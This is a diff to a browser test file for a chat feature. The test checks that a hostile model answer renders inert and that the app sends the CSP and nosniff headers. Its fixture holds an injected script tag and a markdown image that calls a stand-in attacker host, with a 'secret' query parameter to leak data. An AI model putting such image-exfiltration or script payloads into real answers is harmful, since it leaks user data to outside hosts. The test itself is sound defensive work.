@@ -18,6 +18,8 @@ HOSTILE_ANSWER = """Here is what I found.
 
 ![tracker](http://example.com/t.png)
 
+![x](https://evil.example/p.png?secret=1)
+
 <script>window.__pwned=3</script>
 
 End of answer."""
@@ -39,15 +41,28 @@ def _assert_inert(j: Journey) -> None:
     assert click.evaluate("el => el.closest('a') === null && !el.hasAttribute('href')")
     assert page.evaluate("() => document.querySelectorAll('a[href^=\"javascript:\" i]').length") == 0
     click.click()
-    # The image is shown as a link to what it is, never loaded.
-    expect(answer.get_by_text("[image: tracker]")).to_be_visible()
+    # An image is shown as inert text naming its domain: never loaded, never a link carrying its URL.
+    expect(answer.get_by_text("[image: tracker (example.com)]")).to_be_visible()
+    expect(answer.get_by_text("[image: x (evil.example)]")).to_be_visible()
+    expect(answer.locator("a[href*='example']")).to_have_count(0)
+    assert "secret=1" not in answer.inner_html()
     assert page.evaluate("() => typeof window.__pwned") == "undefined"
-    assert not [u for u in j.requests if "example.com" in u]
+    assert not [u for u in j.requests if "example.com" in u or "evil.example" in u]
     assert not j.foreign_requests
 
 
+def _assert_security_headers(j: Journey) -> None:
+    for path in ("/tablizer", "/api/health"):
+        headers = j.page.request.get(f"{j.app.url}{path}").headers
+        policy = headers.get("content-security-policy", "")
+        assert "default-src 'self'" in policy and "img-src 'self' data:" in policy, (path, policy)
+        assert headers.get("x-content-type-options") == "nosniff", path
+
+
 def test_hostile_answer_renders_inert(scripted_journey: Journey, fake_llm: FakeAnthropic) -> None:
+    """Under the app's CSP (any violation would be a console error, failing the journey)."""
     j, page = scripted_journey, scripted_journey.page
+    _assert_security_headers(j)
     fake_llm.script(Script.text(HOSTILE_ANSWER))
     j.sign_in("/tablizer")
     j.open_chat()
